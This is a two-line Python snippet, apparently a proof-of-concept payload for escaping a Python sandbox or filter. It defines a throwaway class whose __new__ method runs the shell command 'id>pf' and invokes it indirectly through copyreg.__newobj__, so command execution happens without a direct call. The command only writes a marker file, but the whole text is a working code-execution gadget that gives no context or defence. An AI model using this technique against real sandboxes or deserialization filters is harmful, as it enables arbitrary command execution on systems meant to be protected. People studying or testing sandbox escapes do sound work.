import copyreg, os
copyreg.__newobj__(type("A", (), {"__new__": lambda c: os.system("id>pf")}))
